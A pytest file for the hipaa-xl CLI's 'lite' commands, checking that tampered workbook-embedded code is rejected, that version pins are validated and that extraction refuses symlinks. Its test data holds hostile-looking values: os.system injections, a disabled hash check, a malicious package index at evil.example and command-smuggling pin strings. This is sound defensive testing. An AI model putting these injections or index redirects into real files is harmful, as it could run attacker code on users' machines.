"""``lite check`` vouches only for the code this hipaa-xl writes (every byte of main.py and
requirements.txt), ``lite add --pin`` accepts only a version number, and ``lite show --extract``
never writes through a link."""

from __future__ import annotations

import base64
import hashlib
import re
import textwrap
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hipaa_xl.cli import app
from hipaa_xl.lite import binding, bundle
from hipaa_xl.lite.files import bind_package
from hipaa_xl.ooxml.package import package_from_bytes
from tests.workbook_helpers import example_bytes

pytestmark = pytest.mark.slow  # workbook round trips: left out of the quick loop

runner = CliRunner()


def _bound(pin: str | None = None) -> bytes:
    pkg = package_from_bytes(example_bytes())
    assert bind_package(pkg, pin)
    return pkg.to_bytes()


def _edited(data: bytes, edit_main: Callable[[str], str] = lambda s: s,
            edit_requirements: Callable[[str], str] = lambda s: s) -> bytes:
    pkg = package_from_bytes(data)
    found = binding.find_binding(pkg)
    assert found is not None
    props = dict(found.properties)
    props[binding.MAIN_PY] = edit_main(props[binding.MAIN_PY])
    props[binding.REQUIREMENTS_TXT] = edit_requirements(props[binding.REQUIREMENTS_TXT])
    guid = re.search(rb'id="(\{[^}]+\})"', pkg[found.webextension_part])
    pkg[found.webextension_part] = binding.webextension_xml(guid.group(1).decode() if guid else "{1}", props)
    return pkg.to_bytes()


def _repacked(main_py: str) -> str:
    """The bundle with one module changed, re-packed with its sha256 updated everywhere and a newer
    version claimed in the header: the loader's own check passes, so only a full comparison can tell."""
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bundle.embedded_zip(main_py))) as src, zipfile.ZipFile(packed, "w") as dst:
        for name in src.namelist():
            body = src.read(name)
            dst.writestr(name, body + b"\n# cut the caps\n" if name.endswith("law/schedules.py") else body)
    data = packed.getvalue()
    old = bundle.read_header(main_py)
    sha = hashlib.sha256(data).hexdigest()
    text = "\n".join(textwrap.wrap(base64.b64encode(zlib.compress(data, 9)).decode(), 100))
    out = re.sub(r'(_BUNDLE = """\n)[A-Za-z0-9+/=\n]+(\n""")', lambda m: m[1] + text + m[2], main_py)
    out = out.replace(old.sha256 or "", sha).replace(f"# hipaa-xl {old.version} ", "# hipaa-xl 9.9.9 ", 1)
    assert bundle.embedded_zip(out) == data  # the loader would accept it
    return out


TAMPERED: dict[str, tuple[Callable[[str], str], Callable[[str], str]]] = {
    "code appended after the bundle": (lambda m: m + "\nimport os; os.system('id')\n", lambda r: r),
    "code inserted before the loader": (lambda m: m.replace("import base64", "import os; os.system('id')\nimport base64", 1),
                                        lambda r: r),
    "the loader's hash check disabled": (lambda m: re.sub(r"\bif (.*?)!=", r"if False and \1!=", m, count=1), lambda r: r),
    "an extra package and --index-url": (lambda m: m, lambda r: r + "evil-pkg==6.6.6\n--index-url https://evil.example/simple\n"),
    "a re-packed bundle claiming 9.9.9": (_repacked, lambda r: r),
}


@pytest.mark.parametrize("what", list(TAMPERED))
def test_lite_check_refuses_code_it_did_not_write(tmp_path: Path, what: str) -> None:
    main_edit, req_edit = TAMPERED[what]
    original = _bound()
    data = _edited(original, main_edit, req_edit)
    assert data != original
    book = tmp_path / "book.xlsx"
    book.write_bytes(data)
    result = runner.invoke(app, ["lite", "check", str(book)])
    assert result.exit_code in (2, 3), (what, result.output)
    assert "intact" not in result.output and "exactly as" not in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_lite_check_vouches_for_what_lite_add_writes(tmp_path: Path) -> None:
    for pin in (None, "0.1.0"):
        book = tmp_path / f"book-{pin}.xlsx"
        book.write_bytes(_bound(pin))
        result = runner.invoke(app, ["lite", "check", str(book)])
        assert result.exit_code == 0, result.output


@pytest.mark.parametrize("pin", ["", "not-a-version", "0.1.0\nimport os; os.system('id')\n#",
                                 "0.1.0 --extra-index-url https://evil.example", "==0.1.0", "0.1.0;rm"])
def test_lite_add_pin_accepts_only_a_version_and_writes_nothing_else(tmp_path: Path, pin: str) -> None:
    book = tmp_path / "book.xlsx"
    book.write_bytes(example_bytes())
    result = runner.invoke(app, ["lite", "add", str(book), "--pin", pin])
    assert result.exit_code == 2, result.output
    assert "--pin must be a version number" in result.output and len(result.output.strip().splitlines()) == 1
    assert book.read_bytes() == example_bytes() and sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsx"]


def test_lite_add_pin_normalises_a_version(tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    book.write_bytes(example_bytes())
    assert runner.invoke(app, ["lite", "add", str(book), "--pin", "0.1.0"]).exit_code == 0
    found = binding.find_binding(package_from_bytes(book.read_bytes()))
    assert found is not None and "hipaa-xl==0.1.0" in found.properties[binding.REQUIREMENTS_TXT]


@pytest.mark.parametrize("name", [binding.MAIN_PY, binding.REQUIREMENTS_TXT])
def test_lite_show_extract_never_writes_through_a_link(tmp_path: Path, name: str) -> None:
    book = tmp_path / "book.xlsx"
    book.write_bytes(_bound())
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / name).symlink_to(victim)
    result = runner.invoke(app, ["lite", "show", str(book), "--extract", str(out)])
    assert result.exit_code == 2 and "link" in result.output
    assert victim.read_text() == "precious" and sorted(p.name for p in out.iterdir()) == [name]
    (out / name).unlink()
    assert runner.invoke(app, ["lite", "show", str(book), "--extract", str(out)]).exit_code == 0
    assert (out / binding.MAIN_PY).read_text().startswith("# hipaa-xl")
